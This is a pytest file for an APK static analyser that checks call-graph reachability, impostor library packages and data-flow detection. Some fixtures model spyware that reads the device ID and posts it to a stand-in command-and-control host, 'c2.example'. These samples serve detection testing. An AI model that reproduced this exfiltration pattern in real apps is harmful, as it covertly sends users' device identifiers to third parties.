"""Which methods lead to what matters, and that the steps of interpretation go there first."""

from collections.abc import Callable

import numpy as np
import pytest

from rogue_scan.apk.code.homes import Homes
from rogue_scan.apk.code.models import load_models
from rogue_scan.apk.code.program import MANY_CLASSES, Program
from rogue_scan.apk.code.reach import CallGraph, Mask
from rogue_scan.apk.code.relevance import Relevance
from rogue_scan.apk.code.types import CodeFacts
from rogue_scan.apk.dex import reader

Analyse = Callable[..., CodeFacts]
Build = Callable[..., bytes]

SENDER = """
    .class Lapp/Sender; Ljava/lang/Object; Lapp/Task;
    .method go()V 1
    return-void
    .class Lapp/Task; Ljava/lang/Object;
    .method public abstract go()V 0
    """


class Walk:
    """A small program, walked back from the methods named ``wanted`` (those named ``sends`` send)."""

    def __init__(self, data: bytes, wanted: str, sends: str = "-") -> None:
        self.program = Program(reader.read_all("classes.dex", data), load_models(), "app")
        graph = CallGraph(self.program)
        self.homes = Homes(graph)
        nothing = np.zeros(self.program.method_count, bool)
        self.relevance = Relevance(graph, self.named(wanted), self.named(sends), nothing)
        _, leading = self.relevance.leading()
        self.found = {self.name(number) for number in np.flatnonzero(leading).tolist()}

    def name(self, number: int) -> str:
        home = self.homes.of(number)
        cls, _, method = home.name.partition(";->") if home is not None else ("", "", "")
        return f"{cls.rpartition('/')[2]}.{method.partition('(')[0]}"

    def named(self, name: str) -> Mask:
        numbers = range(self.program.method_count)
        return np.array([self.name(number) == name for number in numbers], bool)


def test_callers_and_their_callers_lead_to_a_method(build: Build) -> None:
    text = """
        .class Lapp/A;
        .method static one()V 1
        static app.A.two()
        return-void
        .method static two()V 1
        static app.A.three()
        return-void
        .method static three()V 1
        return-void
        .method static other()V 1
        return-void
        """
    assert Walk(build(text), "A.two").found == {"A.one", "A.two"}


def test_a_call_on_an_interface_leads_to_what_implements_it(build: Build) -> None:
    text = """
        .class Lapp/A;
        .method static task(Lapp/Task;)V 2
        invoke-interface {v1} Lapp/Task;->go()V
        return-void
        .method static other(Lapp/Other;)V 2
        app.Other.go() v1
        return-void
        .method static any(Ljava/lang/Object;)V 2
        v0 = Object.toString()String v1
        return-void
        .class Lapp/Other;
        .method go()V 1
        return-void
        """
    assert Walk(build(text + SENDER), "Sender.go").found == {"A.task", "Sender.go"}


def test_who_creates_a_callback_leads_to_it_and_who_creates_another_object_does_not(build: Build) -> None:
    text = """
        .class Lapp/A;
        .method static plan()V 2
        v0 = new app.Job()
        return-void
        .method static make()V 2
        v0 = new app.Plain()
        return-void
        .class Lapp/Job; Ljava/lang/Object; Ljava/lang/Runnable;
        .method <init>()V 1
        return-void
        .method run()V 1
        return-void
        .class Lapp/Plain; Ljava/lang/Object; Ljava/lang/Runnable;
        .method <init>()V 1
        return-void
        .method walk()V 1
        return-void
        """
    assert "A.plan" in Walk(build(text), "Job.run").found
    assert "A.make" not in Walk(build(text), "Plain.walk").found


KIT = "".join(
    f".class Landroidx/kit/C{i};\n.method static take()V 1\nreturn-void\n" for i in range(MANY_CLASSES)
)
BORROWED = """
    .class Landroidx/spy/Taker;
    .method static steal()V 1
    return-void
    .class Landroidx/spy/Poster;
    .method static post()V 1
    return-void
    .class Lapp/A;
    .method static kit()V 1
    static androidx.kit.C7.take()
    return-void
    .method static spy()V 1
    static androidx.spy.Taker.steal()
    return-void
    """


def test_a_quiet_kit_leads_nowhere_by_itself(build: Build) -> None:
    walk = Walk(build(KIT + BORROWED), "C7.take")
    assert walk.found == set()
    assert walk.relevance.impostors == set()


def test_code_that_sends_under_the_name_of_a_quiet_kit_is_an_impostor_with_its_package(build: Build) -> None:
    walk = Walk(build(KIT + BORROWED), "Taker.steal", sends="Poster.post")
    assert walk.found == {"Taker.steal", "A.spy"}
    assert walk.relevance.impostors == {"Landroidx/spy/Taker;", "Landroidx/spy/Poster;"}


def test_a_few_classes_under_the_name_of_a_kit_are_looked_into(build: Build) -> None:
    walk = Walk(build(BORROWED), "Taker.steal")
    assert walk.found == {"Taker.steal", "A.spy"}
    assert walk.relevance.impostors == {"Landroidx/spy/Taker;"}


SEND_IMEI = """
    .class Lapp/Zoo; Landroid/app/Activity;
    .method onCreate(Landroid/os/Bundle;)V 6
    v0 = "phone"
    v0 = app.Zoo.getSystemService(String)Object v4 v0
    v1 = android.telephony.TelephonyManager.getDeviceId()String v0
    v2 = "http://c2.example/x"
    invoke-static {v2, v1} Lapp/Net;->post(Ljava/lang/String;Ljava/lang/String;)V
    return-void
    """
LOOP = """
    const/4 v1, 0
    :loop
    add-int/lit8 v1, v1, 1
    if-nez v1, :loop
    return-void
    """


def sent(facts: CodeFacts) -> set[tuple[str, str | None]]:
    return {(flow.data.value, flow.endpoint) for flow in facts.flows}


def test_components_that_compute_without_end_do_not_keep_the_steps_from_one_that_sends(
    analyse: Analyse,
) -> None:
    busy = "".join(
        f".class Lapp/A{i:02}; Landroid/app/Activity;\n.method onCreate(Landroid/os/Bundle;)V 4{LOOP}"
        for i in range(60)
    )
    assert sent(analyse(busy + SEND_IMEI)) == {("device-id", "c2.example")}


def test_calls_that_double_at_each_level_end(analyse: Analyse) -> None:
    levels = 30
    doubling = ".class Lapp/W;\n" + "".join(
        f".method static m{i}()V 1\nstatic app.W.m{i + 1}()\nstatic app.W.m{i + 1}()\nreturn-void\n"
        for i in range(levels)
    )
    doubling += f".method static m{levels}()V 1\nreturn-void\n"
    text = SEND_IMEI.replace('v0 = "phone"', 'static app.W.m0()\nv0 = "phone"')
    assert sent(analyse(text + doubling)) == {("device-id", "c2.example")}


def test_what_a_component_reads_makes_it_run_again_once_another_one_wrote_it(analyse: Analyse) -> None:
    text = """
        .class Lapp/Ape; Landroid/app/Activity;
        .method onCreate(Landroid/os/Bundle;)V 6
        sget-object v1, Lapp/Store;->kept:Ljava/lang/String;
        v2 = "http://c2.example/x"
        invoke-static {v2, v1} Lapp/Net;->post(Ljava/lang/String;Ljava/lang/String;)V
        return-void
        .class Lapp/Bee; Landroid/app/Activity;
        .method onCreate(Landroid/os/Bundle;)V 6
        v0 = "phone"
        v0 = app.Bee.getSystemService(String)Object v4 v0
        v1 = android.telephony.TelephonyManager.getDeviceId()String v0
        sput-object v1, Lapp/Store;->kept:Ljava/lang/String;
        return-void
        .class Lapp/Store;
        .field static kept:Ljava/lang/String;
        """
    assert sent(analyse(text)) == {("device-id", "c2.example")}


def test_calls_are_told_apart_by_what_their_objects_hold_late_in_a_long_method(analyse: Analyse) -> None:
    """The second object holds another address than the first, and then yet another one."""
    text = """
        .class Lapp/Main; Landroid/app/Activity;
        .method onCreate(Landroid/os/Bundle;)V 6
        const/16 v0, 2500
        :loop
        add-int/lit8 v0, v0, -1
        if-nez v0, :loop
        v1 = "http://one.example/x"
        v2 = new app.Up(String) v1
        app.Up.go() v2
        v1 = "http://two.example/x"
        v3 = new app.Up(String) v1
        app.Up.go() v3
        v1 = "http://three.example/x"
        iput-object v1, v3, Lapp/Up;->at:Ljava/lang/String;
        app.Up.go() v3
        return-void
        .class Lapp/Up;
        .method <init>(Ljava/lang/String;)V 2
        iput-object v1, v0, Lapp/Up;->at:Ljava/lang/String;
        return-void
        .method go()V 3
        iget-object v0, v2, Lapp/Up;->at:Ljava/lang/String;
        invoke-static {v0} Lapp/Net;->open(Ljava/lang/String;)V
        return-void
        .field at:Ljava/lang/String;
        """
    reached = {e.host for e in analyse(text).endpoints if e.where and "Net" in str(e.where)}
    assert {"one.example", "two.example", "three.example"} <= reached


LONG = """
    const v5, {turns}
    :turn
    add-int/lit8 v5, v5, -1
    if-nez v5, :turn
    v1 = "late.example/x"
    v0 = "http://"
    v0 = String.concat(String)String v0 v1
    """
PLACES = {
    "an entry point": """
        .class Lapp/Main; Landroid/app/Activity;
        .method onCreate(Landroid/os/Bundle;)V 10{long}
        invoke-static {{v0}} Lapp/Net;->open(Ljava/lang/String;)V
        return-void
        """,
    "a static initialiser": """
        .class Lapp/Main; Landroid/app/Activity;
        .method onCreate(Landroid/os/Bundle;)V 4
        sget-object v0, Lapp/Late;->address:Ljava/lang/String;
        invoke-static {{v0}} Lapp/Net;->open(Ljava/lang/String;)V
        return-void
        .class Lapp/Late;
        .field static address:Ljava/lang/String;
        .method static <clinit>()V 8{long}
        sput-object v0, Lapp/Late;->address:Ljava/lang/String;
        return-void
        """,
}


@pytest.mark.parametrize("turns", [1_000, 10_000])
@pytest.mark.parametrize("place", PLACES)
def test_what_takes_longer_than_a_share_gets_more_later(place: str, turns: int, analyse: Analyse) -> None:
    """A packer's decoding loops run in either place, and for long."""
    facts = analyse(PLACES[place].format(long=LONG.format(turns=turns)))
    assert "http://late.example/x" in {endpoint.value for endpoint in facts.endpoints}
    assert "steps" not in facts.limits
